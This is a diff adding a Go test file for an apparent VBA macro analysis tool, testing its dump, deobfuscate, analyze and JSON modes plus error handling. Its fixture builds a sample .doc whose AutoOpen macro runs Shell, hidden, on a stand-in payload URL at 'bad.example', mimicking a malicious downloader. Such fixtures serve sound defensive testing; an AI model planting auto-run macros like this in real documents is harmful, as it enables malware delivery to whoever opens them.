@@ -1,0 +1,69 @@
+package main
+
+import (
+	"os"
+	"path/filepath"
+	"testing"
+
+	"repro/internal/cfb"
+	"repro/internal/ovba"
+)
+
+func writeTestDoc(t *testing.T) string {
+	t.Helper()
+	p := &ovba.Project{Name: "P", Modules: []ovba.Module{{
+		Name: "Module1",
+		Source: `Sub AutoOpen()
+    u = "http://bad.example/payload.exe"
+    Shell u, vbHide
+End Sub
+`,
+	}}}
+	b := cfb.NewBuilder()
+	if err := p.WriteTo(b, "Macros"); err != nil {
+		t.Fatal(err)
+	}
+	raw, err := b.Bytes()
+	if err != nil {
+		t.Fatal(err)
+	}
+	path := filepath.Join(t.TempDir(), "sample.doc")
+	if err := os.WriteFile(path, raw, 0o644); err != nil {
+		t.Fatal(err)
+	}
+	return path
+}
+
+func TestRunPlain(t *testing.T) {
+	path := writeTestDoc(t)
+	if err := run(path, false, false, false, false); err != nil {
+		t.Fatal(err)
+	}
+}
+
+func TestRunAllFlags(t *testing.T) {
+	path := writeTestDoc(t)
+	for _, cfg := range []struct{ dump, deob, analyze, json bool }{
+		{dump: true},
+		{deob: true, dump: true},
+		{analyze: true},
+		{analyze: true, json: true},
+	} {
+		if err := run(path, cfg.dump, cfg.deob, cfg.analyze, cfg.json); err != nil {
+			t.Fatalf("%+v: %v", cfg, err)
+		}
+	}
+}
+
+func TestRunErrors(t *testing.T) {
+	if err := run(filepath.Join(t.TempDir(), "missing.doc"), false, false, false, false); err == nil {
+		t.Error("missing file accepted")
+	}
+	junk := filepath.Join(t.TempDir(), "junk.doc")
+	if err := os.WriteFile(junk, []byte("not a doc"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	if err := run(junk, false, false, false, false); err == nil {
+		t.Error("junk file accepted")
+	}
+}
